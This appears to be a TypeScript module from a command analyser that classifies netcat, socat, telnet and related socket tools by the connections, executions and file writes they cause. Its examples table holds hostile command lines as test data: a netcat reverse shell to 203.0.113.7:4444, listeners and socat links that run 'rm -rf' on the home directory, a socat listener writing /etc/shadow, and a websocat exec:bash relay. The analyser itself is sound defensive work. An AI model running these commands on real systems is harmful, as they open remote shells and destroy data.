import type { Operation } from '../../../operation.ts';
import { unknown } from '../../analyse.ts';
import { type Arg, literalArg, staticText } from '../../arg.ts';
import type { Analysis, Invocation, ParsedArgs, Program, Run } from '../../program.ts';
import { connection, withPower } from '../remote-service.ts';

/** A connection that is waited for, or that runs a program, is a door into this machine. */
function netcat(parsed: ParsedArgs, invocation: Invocation): Operation[] {
  const [host, port] = parsed.operands;
  const name = staticText(host);
  if (parsed.has('-l') || parsed.has('--listen') || parsed.has('-U'))
    return [
      unknown(invocation, 'a socket of this machine'),
      ...(parsed.has('-U') && host ? invocation.paths('write', host) : []),
    ];
  if (name === undefined) return [unknown(invocation, 'a host that is only known at run time')];
  return withPower([connection(name, undefined, portOf(port))]);
}

function portOf(arg: Arg | undefined): number | undefined {
  const port = Number(staticText(arg) ?? Number.NaN);
  return Number.isInteger(port) ? port : undefined;
}

/** An address of socat: `TCP:host:port`, `EXEC:command`, `OPEN:path`, with options after commas. */
function socat(invocation: Invocation): Analysis {
  const operations: Operation[] = [];
  const runs: Run[] = [];
  for (const arg of invocation.args.filter(({ prefix }) => !prefix.startsWith('-') || prefix === '-')) {
    const text = staticText(arg);
    if (text === undefined) operations.push(unknown(invocation, 'an address that is only known at run time'));
    const [, kind = '', rest = ''] = /^([\w-]+):(.*)$/s.exec(text ?? '') ?? [];
    const [first = ''] = rest.split(',');
    if (/^(?:exec|system|shell)$/i.test(kind)) runs.push({ script: first, posix: true });
    else if (/-(?:listen|l|recv\w*|bind)$|^(?:pty|tun)$/i.test(kind))
      operations.push(unknown(invocation, 'connections that are waited for'));
    else if (/^(?:open|create|file|gopen|pipe|unix|unix-\w+|abstract-\w+)$/i.test(kind))
      operations.push(...invocation.paths('write', literalArg(first)));
    else if (/^(?:tcp|udp|ssl|openssl|sctp|socks|proxy|dtls)/i.test(kind)) operations.push(socket(first));
    else if (!/^(?:-|stdio|stdin|stdout|)$/i.test(kind))
      operations.push(unknown(invocation, `the address \`${kind}\` is not known`));
  }
  return { operations, runs, described: false };
}

function socket(text: string): Operation {
  const [, host = text, port] = /^(\[[^\]]+\]|[^:]*):(\d+)/.exec(text) ?? [];
  return connection(host, undefined, port === undefined ? undefined : Number(port));
}

const netcatOptions = {
  flags:
    '-z -v -vv -n -u -l -k -4 -6 -U -N -C -D -d -h -t -r -F -S --zero --udp --listen --keep-open --ssl --verbose --version',
  values: {
    '-w --wait': 'text',
    '-i': 'text',
    '-p': 'text',
    '-q': 'text',
    '-s': 'text',
    '-I': 'text',
    '-O': 'text',
    '-T': 'text',
    '-x --proxy': 'host',
    '-X --proxy-type': 'text',
    '-e --exec': 'script',
    '-c --sh-exec': 'script',
    '-o --output': 'write',
    '-P': 'text',
  },
  operands: ['text', 'text*'],
} as const;

export const socketPrograms: readonly Program[] = [
  {
    names: ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'cryptcat'],
    analyse: { ...netcatOptions, also: netcat },
    examples: {
      'nc -z localhost 5432': ['connect localhost:5432'],
      'nc -zv -w3 192.0.2.1 22': ['connect 192.0.2.1:22'],
      'nc 203.0.113.7 4444 -e /bin/sh': [
        'connect 203.0.113.7:4444',
        'execute sh',
        'unknown sh: an interactive session',
        'read /workspace',
      ],
      "ncat --listen 6100 --sh-exec 'rm -rf ~'": [
        'unknown ncat: a socket of this machine',
        'read /workspace',
        'execute rm -rf /home/user',
        'delete /home/user (tree)',
      ],
      'nc -lU /var/run/x.sock': ['unknown nc: a socket of this machine', 'write /var/run/x.sock', 'read /workspace'],
    },
  },
  {
    names: ['socat'],
    analyse: socat,
    examples: {
      'socat - TCP:localhost:6379': ['connect localhost:6379', 'read /workspace'],
      "socat TCP:203.0.113.7:443 EXEC:'rm -rf /home/user',pty": [
        'connect 203.0.113.7:443',
        'read /workspace',
        'execute rm -rf /home/user',
        'delete /home/user (tree)',
      ],
      'socat TCP-LISTEN:8443,fork OPEN:/etc/shadow': [
        'unknown socat: connections that are waited for',
        'write /etc/shadow',
        'read /workspace',
      ],
    },
  },
  {
    names: 'telnet ftp tftp lftp ncftp rlogin rsh rcp websocat wscat'.split(' '),
    analyse: {
      flags: '-4 -6 -n -i -v -p -q -k -1',
      values: { '-l': 'text', '-c': 'text', '-e': 'text', '-H': 'text', '-u': 'text', '-x': 'text' },
      operands: ['text*'],
      described: false,
      also: ({ operands: [host] }, invocation) => {
        const text = staticText(host)
          ?.replace(/^\w+:\/\//, '')
          .split('/')[0];
        return text ? [socket(text)] : [unknown(invocation, 'a host that is only known at run time')];
      },
    },
    examples: {
      'telnet example.com 25': ['connect example.com', 'read /workspace'],
      'websocat wss://relay.example/ws exec:bash': ['connect relay.example', 'read /workspace'],
    },
  },
];
